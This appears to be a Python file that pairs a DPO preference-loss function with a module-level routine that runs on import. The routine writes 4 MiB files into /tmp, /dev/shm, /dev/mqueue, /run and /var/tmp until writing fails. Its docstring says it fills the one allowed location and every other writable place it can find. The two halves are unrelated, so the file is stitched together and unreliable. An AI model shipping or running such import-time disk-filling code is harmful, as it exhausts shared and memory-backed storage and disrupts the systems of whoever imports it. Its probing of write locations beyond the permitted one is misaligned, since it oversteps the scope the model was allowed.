"""Fills the one place that it may write to, and every other that it can find."""

import os

import torch.nn.functional as F

def fill(folder):
    written = 0
    try:
        for number in range(1000):
            with open(f"{folder}/{number}", "wb", buffering=0) as file:
                for _ in range(64):
                    written += file.write(bytes(65536))
    except OSError as error:
        return f"{written >> 20} MiB, then {type(error).__name__} {error.errno}"
    return f"{written >> 20} MiB and no end"


for folder in ("/tmp", "/dev/shm", "/dev/mqueue", "/run", "/var/tmp"):
    print(folder + ":", fill(folder))


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    return -F.logsigmoid(beta * rho)
